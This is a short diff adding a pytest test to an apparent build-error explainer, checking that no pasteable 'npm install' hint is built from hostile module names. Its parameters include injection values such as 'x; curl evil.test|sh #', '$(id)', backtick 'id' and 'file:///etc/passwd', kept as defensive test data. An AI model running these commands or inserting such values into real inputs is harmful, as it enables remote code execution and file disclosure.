@@ -48,6 +48,15 @@ def test_errors_say_what_to_do(said: str, hint: str) -> None:
     assert hint in explain(said, ROOT).splitlines()[-1]
 
 
+@pytest.mark.parametrize(
+    "name", ["x; curl evil.test|sh #", "$(id)", "--global", "file:///etc/passwd", "@a b/c", "`id`"]
+)
+def test_no_command_to_paste_is_made_of_what_is_no_packages_name(name: str) -> None:
+    assert "npm install" not in explain(unresolved(name), ROOT)
+    hint = explain(unresolved(name, "JSONStream"), ROOT)
+    assert "--ignore-scripts JSONStream\n" in hint
+
+
 def test_that_it_cannot_look_above_the_folder_is_no_error_to_show() -> None:
     said = f'✘ [ERROR] Cannot read directory "..": permission denied\n\n{unresolved("x")}'
     assert explain(said, ROOT).startswith('✘ [ERROR] Could not resolve "x"')
